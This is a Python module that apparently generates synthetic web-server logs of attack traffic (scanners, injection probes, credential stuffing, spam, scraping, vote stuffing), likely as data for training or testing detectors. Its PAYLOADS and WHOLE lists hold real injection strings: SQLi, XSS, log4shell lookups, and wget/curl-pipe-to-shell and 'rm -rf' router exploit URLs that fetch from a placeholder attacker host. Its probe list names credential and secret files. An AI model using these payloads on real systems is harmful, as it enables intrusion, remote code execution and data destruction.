"""Attack populations, shaped the way they reach a real site: most are quiet (one probe, a few login tries, one
spam post per address), they borrow real browser agents and plausible referrers, and they spread over addresses,
hours and days. Each function writes ``n`` members (addresses, or campaigns where it says so) into a ``Builder``."""

from __future__ import annotations

from urllib.parse import quote, quote_plus

from nexus_lab.traffic import agents
from nexus_lab.traffic.core import DAY, HOUR, Builder
from nexus_lab.traffic.sites import Site

PROBES = [
    "/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php", "/wp-admin/install.php", "/xmlrpc.php",
    "/wp-includes/wlwmanifest.xml", "/wp-content/plugins/wp-file-manager/readme.txt", "/wp-json/wp/v2/users",
    "/blog/wp-login.php", "/wordpress/wp-admin/", "/.env", "/.env.production", "/api/.env", "/.git/config",
    "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.aws/credentials", "/.vscode/sftp.json", "/config.json",
    "/phpinfo.php", "/info.php", "/phpmyadmin/", "/pma/", "/myadmin/", "/administrator/", "/admin.php",
    "/admin/login.php", "/user/login", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/",
    "/boaform/admin/formLogin", "/HNAP1/", "/actuator/env", "/actuator/health", "/solr/admin/info/system",
    "/owa/auth/logon.aspx", "/remote/login", "/+CSCOE+/logon.html", "/global-protect/login.esp", "/console/",
    "/manager/html", "/server-status", "/backup.zip", "/backup.sql", "/db.sql", "/geoserver/web/",
    "/telescope/requests", "/_ignition/execute-solution", "/v2/_catalog", "/autodiscover/autodiscover.xml",
    "/shell.php", "/wso.php", "/alfa.php", "/wp-config.php.bak", "/sites/default/settings.php", "/jenkins/login",
    "/login.action", "/index.php", "/developmentserver/metadatauploader", "/druid/index.html", "/login", "/admin",
    "/admin/", "/.well-known/../.env", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/api/v1/pods", "/SDK/webLanguage",
]  # fmt: skip
POSTED = ("/cgi-bin/", "/boaform/", "/xmlrpc.php", "/_ignition/", "/developmentserver/", "/SDK/", "/HNAP1/")


def attack_agent(b: Builder, *, browser: float = 0.5, obsolete: float = 0.15, tools: float = 0.2) -> str:
    """What an attack kit sends: mostly a real browser string, else an obsolete one, a library, or nothing."""
    r = b.rng.random()
    if r < browser:
        return agents.browser(b.rng)
    if r < browser + obsolete:
        return agents.pick(b.rng, agents.OBSOLETE)
    if r < browser + obsolete + tools:
        return agents.pick(b.rng, agents.TOOLS)
    return agents.pick(b.rng, agents.SCANNER_TOOLS)


def _status(site: Site, path: str) -> int:
    if site.admin and path.startswith(site.admin.rstrip("/")):
        return 302
    if path == site.login_page or path.rstrip("/") == site.login_page.rstrip("/"):
        return 200
    return 404


def probe(b: Builder, site: Site, ip: str, agent: str, t: float, path: str) -> None:
    method = "POST" if path.startswith(POSTED) and b.rng.random() < 0.7 else b.rng.choice(["GET"] * 8 + ["HEAD"])
    b.add(t, ip, method, path, _status(site, path), agent, "")


def scanners(b: Builder, site: Site, n: int) -> None:
    """One probe per address, mostly: the scan is spread over a botnet."""
    rng = b.rng
    for _ in range(n):
        ip = b.ip("scanners", hosting=rng.random() < 0.7, v6=0.05)
        agent = attack_agent(b, browser=0.4, obsolete=0.15, tools=0.25)
        t = b.when(diurnal=False)
        for path in rng.sample(PROBES, rng.choices([1, 2, 3, 6], [70, 15, 10, 5])[0]):
            probe(b, site, ip, agent, t, path)
            t += rng.uniform(0.2, 30)


# Attack payloads as scanners send them in the query string (OWASP CRS 930-944, CrowdSec *-probing scenarios):
# "{q}" is where a quote/number goes, "{h}" a host of the attacker. Sent raw, percent-encoded or with "+".
PAYLOADS = [
    "1' OR '1'='1",
    "1' AND 1=1-- -",
    "-1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,user())-- -",
    "1);WAITFOR DELAY '0:0:5'--",
    "1 AND SLEEP(5)",
    "1' AND extractvalue(1,concat(0x7e,version()))-- ",
    '\' or "a"="a',
    "1 or 1=1",
    "<script>alert(1)</script>",
    '"><svg/onload=alert(document.domain)>',
    "<img src=x onerror=prompt(1)>",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fwindows/win.ini",
    "/etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "http://{h}/shell.txt?",
    "${jndi:ldap://{h}:1389/a}",
    "${${lower:j}ndi:dns://{h}/x}",
    "{{7*7}}",
    ";cat /etc/passwd",
    "|id",
    "$(wget http://{h}/x.sh)",
    "`curl http://{h}/a|sh`",
    "<?php echo md5(1); ?>",
    "file:///etc/passwd",
]
PARAMS = ["id", "q", "s", "search", "page", "file", "cat", "url", "name", "lang", "template", "redirect", "cmd", "exec",
          "item", "view", "path", "include", "dir", "p"]  # fmt: skip
WHOLE = [  # payloads that are a whole request target
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
    "/?XDEBUG_SESSION_START=phpstorm", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://{h}/bins.sh;chmod+777+bins.sh;sh+bins.sh",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://{h}/t%7Csh%60)",
    "/tmUnblock.cgi", "/bin/", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{h}/Mozi.m",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
]  # fmt: skip


def _encode(rng, text: str) -> str:
    style = rng.random()
    if style < 0.4:
        return quote(text, safe="/=:")
    if style < 0.7:
        return quote_plus(text, safe="/=:")
    return text.replace(" ", "%20")


def payload_scanners(b: Builder, site: Site, n: int) -> None:
    """Injection probes on the site's own pages (SQLi, XSS, traversal, shell, PHP, log4shell), one to a few per
    address, plus Mirai-style router exploits on bare paths. The site answers 200 to many of them (a page that
    ignores an unknown parameter), so only the payload tells."""
    rng = b.rng
    for _ in range(n):
        ip = b.ip("payload_scanners", hosting=rng.random() < 0.7, v6=0.05)
        agent = attack_agent(b, browser=0.5, obsolete=0.1, tools=0.3)
        host = agents.public_ipv4(rng, agents.HOSTING)
        t = b.when(diurnal=False)
        for _ in range(rng.choices([1, 2, 4], [70, 20, 10])[0]):
            if rng.random() < 0.25:
                target = rng.choice(WHOLE).replace("{h}", host)
                status = 404 if target.startswith(("/shell", "/cgi-bin", "/tmUnblock", "/bin/", "/setup")) else 200
            else:
                page = rng.choice(site.pages[:30])
                payload = rng.choice(PAYLOADS).replace("{h}", host)
                target = f"{page}?{rng.choice(PARAMS)}={_encode(rng, payload)}"
                status = rng.choice([200, 200, 200, 400, 403, 404, 500])
            referrer = rng.choice(["", "", site.origin + "/"])
            b.add(t, ip, rng.choice(["GET"] * 9 + ["POST"]), target, status, agent, referrer)
            t += rng.uniform(0.3, 20)


def fake_crawlers(b: Builder, site: Site, n: int) -> None:
    """Crawler user agents from networks the crawler does not own: some crawl, some probe, most do a bit of both."""
    rng = b.rng
    for _ in range(n):
        ip = b.ip("fake_crawlers", hosting=True)
        name = rng.choices(["googlebot", "bingbot", "applebot"], [7, 3, 1])[0]
        agent = agents.pick(rng, agents.CRAWLERS[name][0])
        t = b.when(diurnal=False)
        for _ in range(b.count(15, spread=1.2, high=600)):
            t += rng.expovariate(1 / 6)
            if rng.random() < 0.25:
                probe(b, site, ip, agent, t, rng.choice(PROBES))
            else:
                page = rng.choice(site.pages)
                b.add(t, ip, "GET", page, 200, agent, "")


def _login_try(b: Builder, site: Site, ip: str, agent: str, t: float, *, form: float = 0.5) -> None:
    rng = b.rng
    referrer = site.url(site.login_page or "/") if rng.random() < 0.6 else ""
    if site.login_page and rng.random() < form:  # fetch the form (and its token), never its assets
        b.add(t, ip, "GET", site.login_page, 200, agent, referrer)
        t += rng.uniform(0.2, 1.5)
    post = site.login_post if not site.admin or rng.random() < 0.75 else site.admin + "login/"
    failed = site.login_failed if post == site.login_post else 200
    b.add(t, ip, "POST", post, site.login_ok if rng.random() < 0.01 else failed, agent, referrer)


def credential_stuffing(b: Builder, site: Site, n: int) -> None:
    """``n`` campaigns: each a few dozen proxies, 1-3 tries per address, hours apart, agents rotating."""
    rng = b.rng
    for _ in range(n):
        span = min(rng.uniform(3, 30) * HOUR, b.end - b.start)
        start = b.start + rng.uniform(0, b.end - b.start - span)
        for _ in range(b.count(35, spread=0.5, low=5)):
            ip = b.ip("credential_stuffing", hosting=rng.random() < 0.3, v6=0.1)
            rotate = rng.random() < 0.4
            agent = attack_agent(b, browser=0.75, obsolete=0.1, tools=0.15)
            t = start + rng.uniform(0, span)
            for _ in range(rng.choices([1, 2, 3], [50, 35, 15])[0]):
                _login_try(b, site, ip, agents.browser(rng) if rotate else agent, t)
                t += rng.uniform(600, 3 * HOUR)


def password_spraying(b: Builder, site: Site, n: int) -> None:
    """A few passwords against many accounts: rounds every few hours, one or two tries per address per round."""
    rng = b.rng
    pool = [(b.ip("password_spraying", hosting=rng.random() < 0.5), attack_agent(b, browser=0.8)) for _ in range(n)]
    t = b.start + rng.uniform(0, 4 * HOUR)
    while t < b.end and pool:
        for ip, agent in rng.sample(pool, max(1, len(pool) // rng.randint(2, 5))):
            for _ in range(rng.choice([1, 1, 2])):
                _login_try(b, site, ip, agent, t + rng.uniform(0, 1800), form=0.2)
        t += rng.uniform(2, 8) * HOUR


def brute_force(b: Builder, site: Site, n: int) -> None:
    """The classic: one address, one tool, many tries in a row."""
    rng = b.rng
    for _ in range(n):
        ip = b.ip("brute_force", hosting=True)
        agent = attack_agent(b, browser=0.3, obsolete=0.1, tools=0.6)
        t = b.when(diurnal=False)
        for _ in range(b.count(60, spread=1.0, low=6, high=2000)):
            _login_try(b, site, ip, agent, t, form=0.1)
            t += rng.expovariate(1 / rng.choice([1, 4, 20]))


def referrer_spam(b: Builder, site: Site, n: int) -> None:
    """``n`` campaigns: one commercial domain as the Referer, a handful of addresses, the same page or two."""
    rng = b.rng
    for _ in range(n):
        domain = agents.spam_domain(rng)
        pages = rng.sample(site.pages[:10], rng.randint(1, 2))
        for _ in range(b.count(5, low=1, high=30)):
            ip = b.ip("referrer_spam", hosting=rng.random() < 0.6)
            agent = attack_agent(b, browser=0.7, obsolete=0.25, tools=0.05)
            t = b.when(diurnal=False)
            for _ in range(b.count(2.5, high=25)):
                referrer = f"http{'s' if rng.random() < 0.5 else ''}://{rng.choice(['', 'www.'])}{domain}/"
                b.add(t, ip, "GET", rng.choice(pages), 200, agent, referrer)
                t += rng.expovariate(1 / rng.choice([5, 300, 3600]))


def comment_spam(b: Builder, site: Site, n: int) -> None:
    """GET the form, POST it at machine speed, never load the page's assets; CSRF refusals for the sloppy ones."""
    rng = b.rng
    targets = list(site.comment_posts.items()) or [(site.pages[0], site.contact or site.pages[0])]
    for _ in range(n):
        ip = b.ip("comment_spam", hosting=rng.random() < 0.6)
        agent = attack_agent(b, browser=0.6, obsolete=0.3, tools=0.1)
        t = b.when(diurnal=False)
        for _ in range(b.count(2, high=20)):
            page, action = rng.choice(targets) if rng.random() < 0.8 else (site.contact, site.contact)
            if rng.random() < 0.75:
                b.add(t, ip, "GET", page, 200, agent, "")
                t += rng.uniform(0.3, 3)
            b.add(
                t, ip, "POST", action, rng.choice([302, 302, 403]), agent, site.url(page) if rng.random() < 0.7 else ""
            )
            t += rng.expovariate(1 / rng.choice([2, 60, 1800]))


def signup_spam(b: Builder, site: Site, n: int) -> None:
    """Accounts made by a script (sometimes a spam poll right after), no page, no asset."""
    rng = b.rng
    for _ in range(n):
        ip = b.ip("signup_spam", hosting=rng.random() < 0.5)
        agent = attack_agent(b, browser=0.6, obsolete=0.2, tools=0.2)
        t = b.when(diurnal=False)
        for _ in range(rng.choices([1, 2, 3], [60, 30, 10])[0]):
            b.add(t, ip, "POST", "/api/auth/register/", rng.choice([201, 201, 400]), agent, site.url("/"))
            if rng.random() < 0.4:
                b.add(t + rng.uniform(0.5, 3), ip, "POST", "/api/polls/", rng.choice([201, 403]), agent, site.url("/"))
            t += rng.uniform(30, 4 * HOUR)


def trackback_spam(b: Builder, site: Site, n: int) -> None:
    """Pingbacks and trackbacks, whether or not the site has them."""
    rng = b.rng
    posts = [p for p in site.pages if p in site.comment_posts] or site.pages
    for _ in range(n):
        ip = b.ip("trackback_spam", hosting=rng.random() < 0.7)
        agent = rng.choice([f"WordPress/6.{rng.randint(1, 6)}.{rng.randint(0, 3)}; https://{agents.spam_domain(rng)}",
                            attack_agent(b, browser=0.5, obsolete=0.4, tools=0.1)])  # fmt: skip
        t = b.when(diurnal=False)
        for _ in range(rng.choices([1, 2, 3], [60, 25, 15])[0]):
            path = rng.choice(["/xmlrpc.php", f"{rng.choice(posts)}trackback/", "/wp-trackback.php"])
            b.add(t, ip, "POST", path, rng.choice([404, 404, 405]), agent, "")
            t += rng.uniform(1, 600)


def _walk(site: Site) -> list[str]:
    """Every page in order (how a scraper enumerates: the listing, then each item by id or slug)."""
    return sorted(site.pages, key=lambda p: (len(p), p))


def scrapers(b: Builder, site: Site, n: int) -> None:
    """Libraries walking the site (or its API by id) at a steady pace, sometimes from a handful of addresses."""
    rng = b.rng
    for _ in range(n):
        ips = [b.ip("scrapers", hosting=True) for _ in range(rng.choice([1, 1, 1, 3, 6]))]
        agent = attack_agent(b, browser=0.4, obsolete=0.1, tools=0.5)
        paths = _walk(site)
        if site.polls and rng.random() < 0.5:
            paths = [f"/api/polls/{pid}/{tail}" for pid in range(1, site.polls + 1) for tail in ("", "results/")]
        t = b.when(diurnal=False)
        step = rng.choice([0.5, 1.5, 4, 10])
        for path in paths[rng.randint(0, 20) : rng.randint(0, 20) + b.count(300, spread=0.8, low=30, high=3000)]:
            t += step * rng.uniform(0.7, 1.3)
            b.add(t, rng.choice(ips), "GET", path, 200, agent, site.origin + "/" if rng.random() < 0.3 else "")


def headless_scrapers(b: Builder, site: Site, n: int) -> None:
    """A scripted browser: loads pages with their scripts and styles (often not images or fonts), clicks through
    everything in order, at a machine's regular pace."""
    rng = b.rng
    for _ in range(n):
        ip = b.ip("headless_scrapers", hosting=rng.random() < 0.7)
        agent = agents.pick(rng, [agents.HEADLESS]) if rng.random() < 0.5 else agents.browser(rng)
        assets = [a for a in site.assets if a.endswith((".js", ".css"))] if rng.random() < 0.6 else site.assets
        t = b.when(diurnal=False)
        referrer = ""
        for k, page in enumerate(_walk(site)[: b.count(120, spread=0.8, low=15, high=1500)]):
            t += rng.uniform(1.5, 4)
            b.add(t, ip, "GET", page, 200, agent, referrer)
            for asset in assets if k == 0 else []:
                b.add(t + 0.2, ip, "GET", asset, 200, agent, site.url(page))
            for method, path, status in site.xhr(page, rng):
                b.add(t + 0.5, ip, method, path, status, agent, site.url(page))
            referrer = site.url(page)


def ipv6_rotation(b: Builder, site: Site, n: int) -> None:
    """``n`` hosts that own a /64 and use a new address inside it every few requests (logins, scraping or spam)."""
    rng = b.rng
    for _ in range(n):
        prefix = agents.ipv6_network(rng)
        kind = rng.choice(["login", "scrape", "spam"])
        agent = attack_agent(b, browser=0.7)
        t = b.when(diurnal=False)
        pages = _walk(site)
        for _ in range(b.count(25, low=5, high=200)):
            ip = None
            while ip is None:
                ip = b.claim(agents.ipv6_in(rng, prefix), "ipv6_rotation")
            for _ in range(rng.randint(1, 4)):
                t += rng.expovariate(1 / 20)
                if kind == "login":
                    _login_try(b, site, ip, agent, t)
                elif kind == "scrape":
                    b.add(t, ip, "GET", rng.choice(pages), 200, agent, "")
                else:
                    page, action = rng.choice(list(site.comment_posts.items()) or [("/", "/api/auth/register/")])
                    b.add(t, ip, "POST", action, 302 if site.comment_posts else 201, agent, site.url(page))


def vote_stuffing(b: Builder, site: Site, n: int) -> None:
    """``n`` campaigns: bought accounts on rotating proxies, each logs in and votes for one poll within seconds."""
    rng = b.rng
    for _ in range(n):
        pid = rng.randint(1, max(1, site.polls))
        span = min(rng.uniform(1, 12) * HOUR, b.end - b.start)
        start = b.start + rng.uniform(0, b.end - b.start - span)
        for _ in range(b.count(25, spread=0.5, low=4)):
            ip = b.ip("vote_stuffing", hosting=rng.random() < 0.4, v6=0.1)
            agent = agents.browser(rng)
            referrer = site.url(f"/polls/{pid}") if rng.random() < 0.6 else ""
            t = start + rng.uniform(0, span)
            if rng.random() < 0.4:
                b.add(t - rng.uniform(0.5, 3), ip, "GET", f"/api/polls/{pid}/", 200, agent, referrer)
            b.add(t, ip, "POST", site.login_post, 200, agent, referrer)
            for _ in range(rng.choice([1, 1, 1, 2])):
                t += rng.uniform(0.3, 6)
                b.add(t, ip, "POST", f"/api/polls/{pid}/vote/", rng.choice([201, 201, 201, 409]), agent, referrer)


def bad_agents(b: Builder, site: Site, n: int) -> None:
    """Bots announcing long-dead or impossible browsers, fetching a few pages (no assets) and sometimes a form."""
    rng = b.rng
    for _ in range(n):
        ip = b.ip("bad_agents", hosting=rng.random() < 0.6)
        agent = agents.pick(rng, agents.OBSOLETE)
        t = b.when(diurnal=False)
        for _ in range(b.count(4, high=40)):
            t += rng.expovariate(1 / 30)
            if site.contact and rng.random() < 0.15:
                b.add(t, ip, "POST", site.contact, 302, agent, site.url(site.contact))
            else:
                b.add(t, ip, "GET", rng.choice(site.pages), 200, agent, rng.choice(["", site.origin + "/"]))


def low_and_slow(b: Builder, site: Site, n: int) -> None:
    """A few requests a day per address, for days: a login try, one probe, one spam post."""
    rng = b.rng
    targets = list(site.comment_posts.values()) or ["/api/auth/register/"]
    for _ in range(n):
        ip = b.ip("low_and_slow", hosting=rng.random() < 0.5)
        kind = rng.choice(["login", "probe", "spam"])
        agent = attack_agent(b, browser=0.7)
        per_day = rng.randint(1, 4)
        t = b.start + rng.uniform(0, DAY / per_day)
        while t < b.end:
            if kind == "login":
                _login_try(b, site, ip, agent, t, form=0.3)
            elif kind == "probe":
                probe(b, site, ip, agent, t, rng.choice(PROBES))
            else:
                b.add(t, ip, "POST", rng.choice(targets), rng.choice([302, 403, 201]), agent, "")
            t += rng.uniform(0.5, 1.5) * DAY / per_day
